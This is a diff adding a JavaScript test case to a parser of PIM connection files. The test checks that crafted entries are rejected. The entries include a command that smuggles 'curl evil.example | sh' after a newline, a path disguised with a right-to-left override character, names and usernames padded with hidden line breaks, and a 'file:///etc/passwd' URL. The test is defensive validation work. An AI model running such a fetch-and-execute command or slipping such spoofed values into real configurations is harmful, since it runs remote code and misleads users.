@@ -44,4 +44,15 @@ describe('a file of PIMs', () => {
     const bad = [{ driver: 'web', name: 'X', url: 'file:///etc/passwd', username: 'x' }, 7, { driver: 'web' }];
     assert.deepEqual(readPimFile(JSON.stringify({ pimConnections: 1, pims: bad })), { pims: [], unreadable: 3 });
   });
+
+  it('brings nothing that would look like something else in the question before it is added', () => {
+    const { url } = common;
+    const bad = [
+      { driver: 'console', name: 'Shop\n\n\n', url, command: ['bin/console'] },
+      { driver: 'console', name: 'Shop', url, command: ['sh', '-c', 'bin/console\ncurl evil.example | sh'] },
+      { driver: 'console', name: 'Shop', url, command: ['\u202eelosnoc/nib'] },
+      { driver: 'web', name: 'Shop', url, username: 'julia\u2028' },
+    ];
+    assert.deepEqual(readPimFile(JSON.stringify({ pimConnections: 1, pims: bad })), { pims: [], unreadable: 4 });
+  });
 });
